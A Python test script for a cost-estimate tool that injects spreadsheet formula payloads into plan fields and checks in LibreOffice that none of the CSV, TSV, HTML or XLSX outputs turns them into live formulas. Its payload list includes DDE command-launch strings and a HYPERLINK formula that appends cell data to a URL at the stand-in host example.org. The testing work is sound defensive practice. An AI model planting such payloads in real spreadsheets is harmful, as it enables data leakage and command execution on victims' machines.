#!/usr/bin/env python3
"""What people write never becomes a formula: each payload stands in every text field of a plan, the outputs
are opened by LibreOffice, and no cell is counted that we did not write as a formula. Numbers stay numbers,
texts come back: those of csv and tsv when one leading apostrophe is dropped (as_csv)."""
import csv
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor

BINARY = os.environ["DUTOAN_BINARY"]
SOURCE = os.environ["DUTOAN_SOURCE_DIR"]
EXAMPLE = f"{SOURCE}/docs/examples/invented-2026/plan.toml"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
HARMLESS = "chữ thường"
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1",
    "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u2060=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "−1+1", "|cmd' /C calc'!A0", "=cmd|' /C calc'!A0", "=DDE(\"soffice\";\"x\";\"y\")",
    "=HYPERLINK(\"http://example.org/?x=\"&A1;\"xem\")", "=WEBSERVICE(\"http://example.org\")",
    "=IMPORTXML(\"http://example.org\";\"//a\")", "'=1+1", "''=1+1", "\";=1+1", "\",=1+1;\"", "x\";\"=1+1", "x,=1+1",
    "x;=1+1", "x\t=1+1", "x\n=1+1", "{=1+1}", "<td>=1+1", "0=1+1", "=", "'",
]
# A text field of the plan: the keys whose values are shown somewhere.
FIELDS = re.compile(r'^((?:number|title|issuer|drafter|programme|decision|assumed|source|vi|en|name|unit) = )"([^"]*)"$', re.M)
OUTPUTS = [("estimate --by class", "csv"), ("estimate --by class", "tsv"), ("estimate", "html"),
           ("estimate", "xlsx"), ("plan show", "csv"), ("plan show", "xlsx")]
READ_AS = {"csv": "Text - txt - csv (StarCalc):44,34,76,1", "tsv": "Text - txt - csv (StarCalc):9,34,76,1",
           "html": "HTML (StarCalc)", "xlsx": "Calc MS Excel 2007 XML"}
failures = []


def check(holds, what):
    if not holds:
        failures.append(what)


def toml_text(text):
    escapes = {"\\": "\\\\", '"': '\\"', "\t": "\\t", "\n": "\\n", "\r": "\\r"}
    return "".join(escapes.get(c, c) for c in text)


def plan_with(text):
    """The example with `text` in every text field; units of measure are codes and stay."""
    with open(EXAMPLE, encoding="utf-8") as file:
        plan = file.read()

    def put(field):
        is_code = field.group(1) == "unit = " and re.fullmatch("[a-z-]+", field.group(2))
        return field.group(0) if is_code else f'{field.group(1)}"{toml_text(text)}"'

    return FIELDS.sub(put, plan)


def make(folder, number, text):
    plan = f"{folder}/{number}.toml"
    with open(plan, "w", encoding="utf-8", newline="") as file:
        file.write(plan_with(text))
    for command, form in OUTPUTS:
        path = f"{folder}/{form}/{number}-{command.replace(' ', '-')}.{form}"
        done = subprocess.run([BINARY, *command.split(), "-p", plan, "-r", f"{SOURCE}/rates", "-O", form, "-o", path],
                              capture_output=True, text=True)
        check(os.path.exists(path), f"{text!r}: {command} makes no {form}: {done.stderr[:300]}")


def open_all(folder, form):
    """Every file of the form as LibreOffice reads it."""
    files = sorted(os.listdir(f"{folder}/{form}"))
    done = subprocess.run(["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
                           f"--infilter={READ_AS[form]}", "--convert-to", "fods", "--outdir", f"{folder}/{form}-opened",
                           *(f"{folder}/{form}/{name}" for name in files)], capture_output=True, text=True, timeout=300)
    if len(os.listdir(f"{folder}/{form}-opened")) != len(files):
        sys.exit(f"soffice did not open every .{form}: {done.stderr[-500:]}")
    return {name: cells_of(f"{folder}/{form}-opened/{name.rsplit('.', 1)[0]}.fods") for name in files}


def text_of(node):
    """The text of a paragraph, whose tabs, breaks and runs of blanks are elements."""
    out = node.text or ""
    for child in node:
        marks = {f"{TEXT}tab": "\t", f"{TEXT}line-break": "\n", f"{TEXT}s": " " * int(child.get(f"{TEXT}c", 1))}
        out += marks.get(child.tag) or text_of(child)
        out += child.tail or ""
    return out


def cells_of(path):
    """{(row, column): (text, whether it is a number, formula)} of all sheets, one below the other."""
    cells, row = {}, 0
    for line in ET.parse(path).getroot().iter(f"{TABLE}table-row"):
        column = 0
        for cell in line:
            if cell.tag not in (f"{TABLE}table-cell", f"{TABLE}covered-table-cell"):
                continue
            text = "\n".join(text_of(p) for p in cell.findall(f"{TEXT}p"))
            formula = cell.get(f"{TABLE}formula")
            if text or formula:
                cells[row, column] = (text, cell.get(f"{OFFICE}value-type") == "float", formula)
            column += int(cell.get(f"{TABLE}number-columns-repeated", 1))
        row += int(line.get(f"{TABLE}number-rows-repeated", 1))
    return cells


def formulas_in(cells):
    return [formula for _, _, formula in cells.values() if formula]


def exact(text):
    """The rule of as_csv."""
    return text[1:] if text.startswith("'") else text


def separated(path, separator, cells, payload):
    with open(path, encoding="utf-8", newline="") as file:
        rows = list(csv.reader(io.StringIO(file.read()), delimiter=separator))
    written = [cell for row in rows for cell in row]
    check(any(exact(cell) == payload for cell in written), f"{path}: {payload!r} does not come back")
    for r, row in enumerate(rows):
        for c, cell in enumerate(row):
            shown, is_number, _ = cells.get((r, c), ("", False, None))
            if re.fullmatch(r"-?\d+", cell) and len(cell) < 16:
                check(is_number, f"{path}: {cell} at {r}, {c} is no number")
            elif payload in cell:
                # A lone carriage return is a line break to LibreOffice.
                check(shown.replace("\r", "\n") == cell.replace("\r", "\n"), f"{path}: {cell!r} is shown as {shown!r}")


def judge(form, name, cells, payload, own):
    found = formulas_in(cells)
    check(len(found) == own, f"{name}: {payload!r}: {len(found)} formulas and not {own}: {found[:3]}")
    check(any(is_number for _, is_number, _ in cells.values()), f"{name}: no number at all")
    # A page and a workbook show a blank for a tab or the end of a line.
    if form == "xlsx" and payload.strip() == payload:
        check(any(shown == re.sub(r"\s", " ", payload) for shown, _, _ in cells.values()), f"{name}: {payload!r} is not shown")


def sees_formulas(folder):
    """Without our care there would be formulas: the test can see them."""
    os.makedirs(f"{folder}/csv-raw")
    with open(f"{folder}/csv/raw.csv", "w", encoding="utf-8") as file:
        file.write("=1+1\n+1+1\n@SUM(1,1)\n")


def main():
    if shutil.which("soffice") is None:
        sys.exit("soffice is missing: ./test installs it (packages.txt, group test)")
    texts = [HARMLESS, *PAYLOADS]
    with tempfile.TemporaryDirectory() as folder:
        for form in READ_AS:
            os.makedirs(f"{folder}/{form}")
            os.makedirs(f"{folder}/{form}-opened")
        with ThreadPoolExecutor(2) as pool:
            list(pool.map(lambda n: make(folder, n, texts[n]), range(len(texts))))
        sees_formulas(folder)
        for form in READ_AS:
            opened = open_all(folder, form)
            if form == "csv":
                check(len(formulas_in(opened.pop("raw.csv"))) >= 1, "LibreOffice makes no formula of a raw =1+1")
            for name, cells in opened.items():
                number, _, command = name.partition("-")
                payload = texts[int(number)]
                own = len(formulas_in(opened[f"0-{command}"]))
                judge(form, name, cells, payload, own)
                if form in ("csv", "tsv"):
                    separated(f"{folder}/{form}/{name}", "," if form == "csv" else "\t", cells, payload)
    for failure in failures[:60]:
        print(failure)
    print(f"{len(PAYLOADS)} payloads, {len(OUTPUTS)} outputs, {len(failures)} failures")
    sys.exit(1 if failures else 0)


main()
